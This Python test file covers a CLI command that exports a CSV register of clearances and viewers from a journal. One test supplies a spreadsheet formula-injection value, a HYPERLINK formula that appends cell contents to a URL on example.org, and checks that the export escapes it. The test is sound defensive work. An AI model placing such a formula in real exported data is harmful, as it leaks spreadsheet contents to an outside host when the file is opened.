"""`authority register`: the register of uses, and the entry that it is sent."""

import csv
import json
import os
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from blindspot.cli.law.authority import app
from blindspot.core.errors import InputError
from blindspot.evidence.acts.register import register_sent
from blindspot.evidence.journals.journal import Journal
from blindspot.stack.stack_record import end_stack_record, note_ready, write_stack_record

BY = ["--person", "A. Martin", "--recipient", "cabinet"]


@pytest.fixture
def journal(tmp_path):
    path = tmp_path / "journal.jsonl"
    Journal(path, "test").write(
        "clearance", run="evening", granted=True, authorisation="PP-1", profile="FR-CSI-L242-5", person="A. Martin",
        viewers=["V. Viewer", "W. Viewer"],
    )  # fmt: skip
    return path


def register(out, journal, *words):
    return CliRunner().invoke(app, ["register", str(out), "--journal", str(journal), *words], catch_exceptions=False)


def test_the_register_names_each_use_and_its_sending_is_in_the_journal(journal, tmp_path):
    out = tmp_path / "register.csv"
    result = register(out, journal, *BY, "--json")
    assert result.exit_code == 0 and json.loads(result.output)["uses"] == 1
    assert out.stat().st_mode & 0o077 == 0, "it names people"
    [row] = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert (row["run"], row["authorisation"], row["outcome"]) == ("evening", "PP-1", "")
    assert row["access"] == "V. Viewer; W. Viewer"
    assert register_sent(journal) is not None
    assert register(tmp_path / "next.csv", journal, *BY).exit_code == 0
    assert list(csv.DictReader((tmp_path / "next.csv").read_text().splitlines())) == []


def test_no_name_is_a_formula_of_a_spreadsheet(journal, tmp_path):
    evil = '=HYPERLINK("http://example.org?"&A1)'
    Journal(journal, "test").write(
        "clearance", run="next", granted=True, authorisation="PP-1", profile="FR-CSI-L242-5", person=evil,
        viewers=["@SUM(A1)"],
    )  # fmt: skip
    assert register(tmp_path / "register.csv", journal, *BY).exit_code == 0
    [_, row] = list(csv.DictReader((tmp_path / "register.csv").read_text(encoding="utf-8").splitlines()))
    assert (row["person"], row["access"]) == (f"'{evil}", "'@SUM(A1)")


@pytest.mark.parametrize("words", [["--person", " ", "--recipient", "x"], ["--person", "x", "--recipient", " "]])
def test_nobody_sends_it_to_nobody(journal, tmp_path, words):
    with pytest.raises(InputError, match="is empty"):
        register(tmp_path / "register.csv", journal, *words)
    assert register_sent(journal) is None


def test_a_file_that_is_there_stays_and_nothing_counts_as_sent(journal, tmp_path):
    out = tmp_path / "register.csv"
    out.write_text("kept")
    with pytest.raises(InputError, match="is there already"):
        register(out, journal, *BY)
    assert out.read_text() == "kept" and register_sent(journal) is None


def test_a_missing_journal_is_named(tmp_path):
    with pytest.raises(InputError, match="is missing"):
        register(tmp_path / "register.csv", tmp_path / "none.jsonl", *BY)


def test_a_simulation_after_a_real_flight_does_not_empty_the_register(journal, tmp_path, monkeypatch):
    """The record of the latest stack is then that of the simulation."""
    monkeypatch.setenv("BLINDSPOT_STATE", str(tmp_path))
    simulated = tmp_path / "runs" / "journal.jsonl"
    simulated.parent.mkdir()
    Journal(simulated, "test").write("mission", run="practice")
    fleet = SimpleNamespace(path=tmp_path)
    what = SimpleNamespace(mode="embedded", fleet=fleet, journal=simulated, watched=(), public_key=None, simulated=True)
    write_stack_record(os.environ, what, simulated.parent)
    note_ready(os.environ)
    end_stack_record(os.environ)
    out = tmp_path / "register.csv"
    result = CliRunner().invoke(app, ["register", str(out), *BY], catch_exceptions=False)
    assert result.exit_code == 0 and f"1 flights; send it to cabinet now, {journal} says" in result.output
    assert register_sent(journal) is not None and register_sent(simulated) is None
    opened = CliRunner().invoke(app, ["end-run"], catch_exceptions=False)
    assert "practice" not in opened.output
